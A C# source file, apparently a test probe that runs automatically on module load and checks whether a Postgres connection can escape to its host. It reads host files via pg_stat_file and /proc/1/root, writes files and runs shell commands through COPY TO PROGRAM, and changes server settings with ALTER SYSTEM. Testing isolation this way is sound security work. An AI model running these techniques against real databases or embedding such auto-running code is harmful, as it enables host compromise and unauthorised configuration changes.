using System.Runtime.CompilerServices;
using Npgsql;

// A superuser in SQL is whoever the server runs as: reads its files, starts its programs.
internal static class Attack
{
    private static readonly string[] Paths = [@HOST_PATHS@];

    [ModuleInitializer]
    internal static void Begin() => new Thread(Try) { IsBackground = true }.Start();

    private static void Try()
    {
        var connectionString = Environment.GetEnvironmentVariable("ConnectionStrings__Database");
        if (connectionString is null) return;
        try
        {
            using var connection = new NpgsqlConnection(connectionString + ";Pooling=false");
            connection.Open();
            foreach (var path in Paths)
            {
                Ask(connection, $"SELECT 'sees ' || '{path}' FROM pg_stat_file('{path}', true) WHERE size IS NOT NULL");
                Ask(connection, $"SELECT 'sees ' || '/proc/1/root{path}' FROM pg_stat_file('/proc/1/root{path}', true) WHERE size IS NOT NULL");
                Ask(connection, $"COPY (SELECT 'attack') TO '{path}/attack'", "writes into " + path);
                Ask(connection, $"COPY (SELECT 'attack') TO PROGRAM 'cat > {path}/attack'", "runs a program that writes into " + path);
            }

            Ask(connection, "COPY (SELECT 1) TO PROGRAM 'true'", "runs programs");
            Ask(connection, "ALTER SYSTEM SET enable_indexscan = off");
            Ask(connection, "SELECT NULL FROM pg_reload_conf()");
            using var rights = new NpgsqlCommand("SELECT current_setting('is_superuser')", connection);
            Console.WriteLine($"TRIED {Paths.Length} paths; superuser: {rights.ExecuteScalar()}");
        }
        catch (NpgsqlException ended)
        {
            Console.WriteLine($"ended: {ended.Message}");
        }
    }

    // Says so when it got an answer; with a sentence of its own where the statement returns nothing.
    private static void Ask(NpgsqlConnection connection, string sql, string? sentence = null)
    {
        try
        {
            using var command = new NpgsqlCommand(sql, connection);
            var answer = command.ExecuteScalar();
            if (sentence is not null || answer is string) Console.WriteLine($"ESCAPED {sentence ?? answer}");
        }
        catch (PostgresException refused)
        {
            GC.KeepAlive(refused);
        }
    }
}
